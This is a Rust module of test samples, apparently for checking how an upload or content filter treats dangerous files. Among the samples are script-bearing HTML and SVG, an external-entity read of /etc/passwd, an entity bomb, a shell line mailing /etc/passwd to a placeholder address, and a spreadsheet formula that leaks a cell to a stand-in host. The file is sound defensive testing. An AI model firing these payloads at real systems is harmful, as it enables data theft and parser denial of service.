//! Content that a browser, a parser or an operating system would act on.

/// Content, each with what it is.
pub type Corpus = Vec<(&'static str, Vec<u8>)>;

/// What a browser or an interpreter runs, written as text.
pub fn texts() -> Corpus {
    vec![
        ("HTML", html()),
        ("HTML after a byte order mark", [b"\xef\xbb\xbf".to_vec(), html()].concat()),
        ("HTML after white space", [b" \r\n\t\n".to_vec(), html()].concat()),
        ("HTML in UTF-7", b"+ADw-script+AD4-alert(document.domain)+ADw-/script+AD4-".to_vec()),
        ("SVG", svg()),
        ("SVG without a declaration", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec()),
        (
            "XHTML",
            b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>"
                .to_vec(),
        ),
        ("an entity bomb", entity_bomb()),
        (
            "an external entity",
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".to_vec(),
        ),
        ("JavaScript", b"/* notes */ fetch('/api/v1/submissions').then(alert)\n".to_vec()),
        ("a shell script", b"#!/bin/sh\ncat /etc/passwd | mail mallory@example.org\n".to_vec()),
        ("formulas", b"name,score\n\"=HYPERLINK(\"\"https://example.org/?\"\"&A1)\",@SUM(1)\n".to_vec()),
    ]
}

/// Programs, and texts in a coding that is not UTF-8.
pub fn binaries() -> Corpus {
    let page = String::from_utf8(html()).unwrap();
    let utf16 = page.encode_utf16().flat_map(u16::to_le_bytes);
    vec![
        ("an ELF program", elf()),
        ("a Windows program", portable_executable()),
        ("a Java class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d".to_vec()),
        ("a WebAssembly module", b"\0asm\x01\0\0\0".to_vec()),
        ("HTML in UTF-16", [0xff, 0xfe].into_iter().chain(utf16).collect()),
        ("HTML with a NUL", [html(), b"\0".to_vec()].concat()),
    ]
}

/// A page that would read the cookies of whoever opens it.
pub fn html() -> Vec<u8> {
    b"<!DOCTYPE html><html><body onload=\"alert(document.cookie)\"><script>alert(1)</script></body></html>"
        .to_vec()
}

/// A picture that is a program.
pub fn svg() -> Vec<u8> {
    b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
        .to_vec()
}

/// A billion laughs: ten entities, each ten times the one before.
pub fn entity_bomb() -> Vec<u8> {
    let mut bomb = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">".to_owned();
    for depth in 1..10 {
        let inner = format!("&lol{};", depth - 1).repeat(10);
        bomb += &format!("<!ENTITY lol{depth} \"{inner}\">");
    }
    bomb += "]><lolz>&lol9;</lolz>";
    bomb.into_bytes()
}

/// The header of a program for Linux on x86-64.
pub fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(16, 0);
    bytes.extend([2, 0, 0x3e, 0, 1, 0, 0, 0]);
    bytes.resize(256, 0x90);
    bytes
}

/// The headers of a program for Windows.
pub fn portable_executable() -> Vec<u8> {
    let mut bytes = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec();
    bytes.resize(0x3c, 0);
    bytes.extend([0x80, 0, 0, 0]);
    bytes.resize(0x80, 0);
    bytes.extend(b"PE\0\0\x64\x86\x01\0");
    bytes.resize(512, 0);
    bytes
}

/// A picture of one pixel.
pub fn png() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.extend(b"\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0\x3a\x7e\x9b\x55");
    bytes.extend(b"\0\0\0\x0aIDATx\x9cc`\0\0\0\x02\0\x01\x48\xaf\xa4\x71");
    bytes.extend(b"\0\0\0\0IEND\xae\x42\x60\x82");
    bytes
}
